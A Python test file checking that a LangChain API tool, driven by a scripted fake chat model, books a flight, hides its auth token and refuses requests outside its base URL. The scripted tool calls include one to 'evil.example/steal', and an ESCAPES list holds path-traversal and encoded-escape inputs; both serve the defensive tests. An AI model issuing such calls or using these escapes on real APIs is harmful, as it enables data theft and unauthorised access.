"""The LangChain tool inside an agent loop driven by a fake chat model."""

from __future__ import annotations

import asyncio
import json
from collections.abc import Sequence
from typing import Any

import pytest
from langchain_core.language_models.fake_chat_models import GenericFakeChatModel
from langchain_core.messages import AIMessage, BaseMessage, HumanMessage, ToolMessage
from langchain_core.runnables import Runnable
from langchain_core.tools import BaseTool

from conftest import Api
from protonpass_agent.langchain import ProtonPassApiTool, api_tools


class ToolCallingFakeModel(GenericFakeChatModel):
    """Plays back scripted AI messages, tool calls included."""

    def bind_tools(self, tools: Sequence[Any], **kwargs: Any) -> Runnable[Any, BaseMessage]:
        return self


def script() -> list[AIMessage]:
    return [
        AIMessage(
            content="",
            tool_calls=[
                {
                    "name": "call_api",
                    "args": {"method": "GET", "path": "/whoami", "reason": "check who I act for"},
                    "id": "c1",
                }
            ],
        ),
        AIMessage(
            content="",
            tool_calls=[
                {
                    "name": "call_api",
                    "args": {"method": "POST", "path": "/bookings", "body": {"flight": "LX 318"}, "reason": "book it"},
                    "id": "c2",
                },
                {"name": "call_api", "args": {"method": "GET", "path": "http://evil.example/steal"}, "id": "c3"},
            ],
        ),
        AIMessage(content="Your flight LX 318 is booked."),
    ]


def agent_loop(model: Runnable[Any, BaseMessage], tools: list[BaseTool], question: str) -> list[BaseMessage]:
    """The standard tool-calling loop: ask the model, run the tools it calls, repeat."""
    by_name = {t.name: t for t in tools}
    messages: list[BaseMessage] = [HumanMessage(question)]
    for _ in range(10):
        ai = model.invoke(messages)
        messages.append(ai)
        if not isinstance(ai, AIMessage) or not ai.tool_calls:
            return messages
        for call in ai.tool_calls:
            messages.append(by_name[call["name"]].invoke(call))
    pytest.fail("the agent did not finish")


async def agent_loop_async(
    model: Runnable[Any, BaseMessage], tools: list[BaseTool], question: str
) -> list[BaseMessage]:
    by_name = {t.name: t for t in tools}
    messages: list[BaseMessage] = [HumanMessage(question)]
    for _ in range(10):
        ai = await model.ainvoke(messages)
        messages.append(ai)
        if not isinstance(ai, AIMessage) or not ai.tool_calls:
            return messages
        for call in ai.tool_calls:
            messages.append(await by_name[call["name"]].ainvoke(call))
    pytest.fail("the agent did not finish")


def check_transcript(messages: list[BaseMessage], token: str) -> None:
    tool_msgs = [m for m in messages if isinstance(m, ToolMessage)]
    assert len(tool_msgs) == 3
    who = json.loads(tool_msgs[0].content)  # type: ignore[arg-type]
    assert who["status"] == 200 and json.loads(who["body"])["reason"] == "check who I act for"
    booked = json.loads(tool_msgs[1].content)  # type: ignore[arg-type]
    assert booked["status"] == 200 and json.loads(booked["body"])["booked"] is True
    # A call outside the configured API is refused as a tool error, not sent.
    assert "only go to the configured API" in str(tool_msgs[2].content)
    assert messages[-1].content == "Your flight LX 318 is booked."
    # The token never reaches the model.
    transcript = json.dumps([m.model_dump() for m in messages], default=str)
    assert token not in transcript and "DPoP ey" not in transcript


def test_langchain_agent_loop(enroll, api: Api) -> None:
    with enroll(["travel:search", "travel:book"]) as s:
        token = s.headers("GET", api.url)["Authorization"].split(" ", 1)[1]
        tools = api_tools(s, api.url)
        assert isinstance(tools[0], ProtonPassApiTool)
        model = ToolCallingFakeModel(messages=iter(script())).bind_tools(tools)
        check_transcript(agent_loop(model, tools, "Book LX 318 for me"), token)


def test_langchain_agent_loop_async(enroll, api: Api) -> None:
    with enroll(["travel:search", "travel:book"]) as s:
        token = s.headers("GET", api.url)["Authorization"].split(" ", 1)[1]
        tools = api_tools(s, api.url)
        model = ToolCallingFakeModel(messages=iter(script())).bind_tools(tools)
        check_transcript(asyncio.run(agent_loop_async(model, tools, "Book LX 318 for me")), token)


ESCAPES = [
    "/../whoami",
    "/..",
    "/%2e%2e/whoami",
    "/%2E%2E/whoami",
    "/..%2fwhoami",
    "/..%2Fwhoami",
    "/..%5cwhoami",
    "/..\\whoami",
    "/x/..%2f..%2fwhoami",
    "/%2e%2e%5cwhoami",
    "/./../whoami",
    "//evil.example/whoami",
    "whoami",
]


def test_langchain_tool_stays_under_the_base_path(enroll, api: Api) -> None:
    with enroll(["travel:search"]) as s:
        (tool,) = api_tools(s, f"{api.url}/sync")
        ok = json.loads(tool.invoke({"method": "GET", "path": "/whoami?x=1"}))
        assert ok["status"] == 200, ok
        # Dot segments that stay under the base path are resolved, not refused.
        ok = json.loads(tool.invoke({"method": "GET", "path": "/a/%2e%2e/whoami"}))
        assert ok["status"] == 200, ok
        before = api.app.state.hits
        for path in ESCAPES:
            out = tool.invoke({"method": "GET", "path": path})
            assert "only go to the configured API" in out, (path, out)
            out = asyncio.run(tool.ainvoke({"method": "GET", "path": path}))
            assert "only go to the configured API" in out, (path, out)
        assert api.app.state.hits == before, "a refused call reached the API"
